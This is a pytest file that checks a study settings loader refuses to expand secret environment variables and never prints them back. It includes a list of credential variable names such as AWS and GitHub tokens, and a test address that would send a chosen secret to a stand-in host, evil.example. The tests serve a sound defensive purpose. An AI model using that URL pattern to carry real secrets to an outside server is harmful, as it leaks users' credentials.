"""Which variables of the environment a study may read, and where: no secret is printed back."""

from __future__ import annotations

import pytest
from tests.builders.secret_study import (
    SECRET,
    edit,
    forms_of,
    of_database,
    refused_in_one_line,
    study,
)
from tests.commands import call

from circle15.study.settings.reading import load_study

__all__ = ["study"]  # a fixture


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://planner@${HOST_PASSWORD}/city?table=a.b",
        "postgresql://${HOST_PASSWORD}@h/city?table=a.b",
        "postgresql://planner:${CITY_PASSWORD}@${HOST_PASSWORD}/city?table=a.b",
        "postgresql://planner@h:${HOST_PASSWORD}/city?table=a.b",
        "postgresql://planner@h/${HOST_PASSWORD}?table=a.b",
        "postgresql://planner@h/city?table=${HOST_PASSWORD}",
        "postgresql://planner:${CITY_PASSWORD}${HOST_PASSWORD}@h/city?table=a",
        "${CITY_ADDRESS}",
        "${CITY_ADDRESS}&sslmode=disable",
    ],
)
def test_in_an_address_a_variable_is_the_password_or_refused(study, capfd, monkeypatch, url):
    monkeypatch.setenv("CITY_PASSWORD", SECRET)
    monkeypatch.setenv("HOST_PASSWORD", SECRET)
    monkeypatch.setenv("CITY_ADDRESS", f"postgresql://planner:{SECRET}@h/city?table=a.b")
    told = refused_in_one_line(of_database(study, url), capfd, 2)
    assert "password" in told


@pytest.mark.parametrize("part", ["database", "query"])
def test_in_a_record_too(study, capfd, monkeypatch, part):
    monkeypatch.setenv("CITY_WORD", f"postgresql://u:{SECRET}@h/c")
    parts = {"database": "postgresql://u@h/c", "query": "SELECT 1"} | {part: "${CITY_WORD}"}
    words = ", ".join(f'{key} = "{value}"' for key, value in parts.items())
    edit(study, 'file = "sites.csv"', f"file = {{ {words} }}")
    assert "${CITY_WORD} in another part" in refused_in_one_line(study, capfd, 2)


@pytest.mark.parametrize(
    "name",
    [
        "PGPASSWORD",
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        "OPENAI_API_KEY",
        "db_pass",
        "dbPass",
        "MYSQL_PWD",
        "PGPASSFILE",
        "AZURE_CLIENT_SECRET",
        "KEY",
        "GOOGLE_CREDENTIALS",
        "数据库口令",
    ],
)
def test_a_secret_is_not_read_in_a_path(study, capfd, monkeypatch, name):
    monkeypatch.setenv(name, SECRET)
    monkeypatch.setenv("CITY_DATA", str(study.parent))
    edit(study, '"homes.csv"', f'"${{{name}}}/homes.csv"')
    told = refused_in_one_line(study, capfd, 2)
    assert f"may not read the variable {name}" in told
    assert "CITY_DATA" in told


@pytest.mark.parametrize("path", ["${HARMLESS}/homes.csv", "x${HARMLESS}", "../${HARMLESS}/../h"])
def test_a_value_is_not_printed_back(study, capfd, monkeypatch, path):
    monkeypatch.setenv("HARMLESS", SECRET)
    edit(study, '"homes.csv"', f'"{path}"')
    assert f"no such file: {path}." in refused_in_one_line(study, capfd, 2)


@pytest.mark.parametrize(
    "start",
    ["https://u:{}@a.org/h.csv", "PG:host=a password={}", "postgis://u:{}@a/b", "/vsicurl/{}"],
)
def test_an_address_in_the_place_of_a_path_is_not_printed_back(study, capfd, start):
    edit(study, '"homes.csv"', f'"{start.format(SECRET)}"')
    told = refused_in_one_line(study, capfd, 2)
    assert "is the address of a server, not the path of a file." in told
    assert SECRET not in told


def test_a_folder_of_a_variable_is_not_printed_back(study, capfd, monkeypatch):
    (study.parent / SECRET).mkdir()
    monkeypatch.setenv("HARMLESS", SECRET)
    edit(study, '"homes.csv"', '"${HARMLESS}"')
    assert "${HARMLESS} is a folder" in refused_in_one_line(study, capfd, 2)


@pytest.mark.parametrize("key", ["file", "dem", "barriers"])
def test_the_paths_of_one_file_are_read_alike(study, capfd, monkeypatch, key):
    monkeypatch.setenv("HARMLESS", f"postgresql://u:{SECRET}@h/c")
    if key == "file":
        edit(study, '"streets.geojson"', '"${HARMLESS}"')
    else:
        edit(study, "[network]", f'[network]\n{key} = "${{HARMLESS}}"')
    assert "${HARMLESS}" in refused_in_one_line(study, capfd, 2)


def test_an_unset_name_lists_what_may_be_read(study, capfd, monkeypatch):
    monkeypatch.setenv("CITY_DATA", str(study.parent))
    monkeypatch.setenv("CITY_PASSWORD", SECRET)
    edit(study, '"homes.csv"', '"${CITY_DATEN}/homes.csv"')
    told = refused_in_one_line(study, capfd, 2)
    assert "CITY_DATEN is not set" in told
    assert "CITY_DATA" in told
    assert "CITY_PASSWORD" not in told
    edit(study, '"${CITY_DATEN}/homes.csv"', '"postgresql://u:${CITY_PASSWROD}@h/c?table=a"')
    told = refused_in_one_line(study, capfd, 2)
    assert "CITY_PASSWROD is not set" in told
    assert "CITY_PASSWORD" in told
    assert "CITY_DATA" not in told


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "CITY_DATA", "PWD"])
def test_only_a_password_is_sent_as_one(study, capfd, monkeypatch, name):
    """A study of a stranger does not send other secrets to a server of his."""
    monkeypatch.setenv(name, SECRET)
    told = refused_in_one_line(
        of_database(study, f"postgresql://u:${{{name}}}@evil.example/c?table=a.b"), capfd, 2
    )
    assert f"may not read the variable {name}" in told


def test_an_empty_password_is_told(study, capfd, monkeypatch):
    monkeypatch.setenv("CITY_PASSWORD", "")
    of_database(study, "postgresql://u:${CITY_PASSWORD}@h/c?table=a.b")
    assert "CITY_PASSWORD is empty" in refused_in_one_line(study, capfd, 2)


def test_elsewhere_a_name_is_literal(study, monkeypatch, capfd):
    """Titles, columns and names of layers are words; a secret is in nothing that is written."""
    monkeypatch.setenv("PGPASSWORD", SECRET)
    monkeypatch.setenv("CITY_DATA", str(study.parent))
    edit(study, '"homes.csv"', '"${CITY_DATA}/homes.csv"')
    edit(study, "as_of", 'title = "a ${PGPASSWORD} b"\nas_of')
    out = study.parent / "out"
    assert call("run", study, "--out", out) == 0
    assert load_study(study).title == "a ${PGPASSWORD} b"
    said = capfd.readouterr()
    texts = [path.read_bytes() for path in out.iterdir()] + [said.out.encode(), said.err.encode()]
    assert not any(form.encode() in text for form in forms_of(SECRET) for text in texts)
    assert b"${PGPASSWORD}" in (out / "report.html").read_bytes()
